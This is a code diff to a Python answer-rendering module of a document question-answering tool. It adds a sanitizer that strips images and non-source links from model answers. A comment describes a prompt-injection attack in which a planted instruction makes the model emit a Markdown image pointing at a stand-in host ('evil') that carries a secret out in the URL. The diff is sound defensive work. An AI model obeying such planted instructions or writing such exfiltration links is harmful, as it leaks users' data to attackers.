@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import html
 import re
+from typing import Iterable
 
 from backend.engine import STAGES, SourceChunk
 # The backend's own tokenizer, so highlighting marks exactly the terms that BM25 matched.
@@ -22,10 +23,50 @@ def escape_md(text: str) -> str:
     return _MD_SPECIAL.sub(r"\\\1", text)
 
 
-def answer_md(text: str, kind: str) -> str:
-    """Model answers keep their Markdown (lists, bold) but never turn `$` into LaTeX;
-    extractive answers are document sentences and are shown literally."""
-    return text.replace("$", r"\$") if kind == "llm" else escape_md(text)
+def answer_md(text: str, kind: str, source_urls: Iterable[str] = ()) -> str:
+    """Model answers keep their Markdown (lists, bold) but never turn `$` into LaTeX, and show no
+    image and no link other than the sources' own (see `without_remote_links`); extractive answers
+    are document sentences and are shown literally."""
+    return without_remote_links(text, source_urls).replace("$", r"\$") if kind == "llm" else escape_md(text)
+
+
+# An instruction planted in a document can make the model write ![x](http://evil/?q=<secret>): the
+# browser fetches the image the moment the answer renders, and the URL carries the data out. So an
+# answer renders no image at all, links only to its sources' own URLs, and shows everything else
+# as plain text. Code is left alone (Markdown renders no link inside it), but only code that
+# Markdown is sure to read as code: a fence at a line start, or a single-backtick span not
+# preceded by a backslash; anything in doubt is escaped.
+_FENCE = r"(?m:^ {0,3}(?P<fence>`{3,}|~{3,})[^\n]*\n[\s\S]*?(?:^ {0,3}(?P=fence)[ \t]*$|\Z))"
+_SPAN = r"(?<![`\\])`[^`\n]+`(?!`)"
+_LINK = r"(?P<link>(?P<img>!?)\[(?P<label>[^\[\]\n]*)\]\(\s*<?(?P<url>[^()\s<>]*)>?(?:\s+\"[^\"\n]*\")?\s*\))"
+_AUTO = r"<(?P<auto>[A-Za-z][A-Za-z0-9+.-]{1,31}:[^<>\s]*)>"
+_BARE = r"(?P<bare>(?:[A-Za-z][A-Za-z0-9+.-]{1,31}://|www\.)[^\s<>]*[^\s<>.,;:!?'\")\]*_~]|[\w.+-]+@[\w-]+\.[\w.-]+)"
+_ANSWER_PARTS = re.compile(f"(?P<code>{_FENCE}|{_SPAN})|{_LINK}|{_AUTO}|{_BARE}")
+_PLAIN_SPECIAL = re.compile(r"([\\\[\]<])")
+
+
+def source_urls(sources: Iterable[SourceChunk]) -> set[str]:
+    """The web addresses the sources themselves come from: the only links an answer may show."""
+    return {s.source for s in sources if s.source.startswith(("http://", "https://"))}
+
+
+def without_remote_links(markdown: str, allowed: Iterable[str] = ()) -> str:
+    """`markdown` with no image and no link except to an `allowed` URL: the rest shown as text."""
+    allowed = set(allowed)
+    out, pos = [], 0
+    for m in _ANSWER_PARTS.finditer(markdown):
+        out.append(_PLAIN_SPECIAL.sub(r"\\\1", markdown[pos:m.start()]))
+        pos = m.end()
+        if m.group("code"):
+            out.append(m.group())
+        elif m.group("link") and not m.group("img") and m.group("url") in allowed:
+            out.append(f"[{escape_md(m.group('label'))}]({m.group('url')})")
+        elif (m.group("auto") or m.group("bare")) in allowed:
+            out.append(m.group())
+        else:
+            out.append(escape_md(m.group()))
+    out.append(_PLAIN_SPECIAL.sub(r"\\\1", markdown[pos:]))
+    return "".join(out)
 
 
 _MARKER = re.compile(r"\\?\[(\d{1,3})\\?\]")
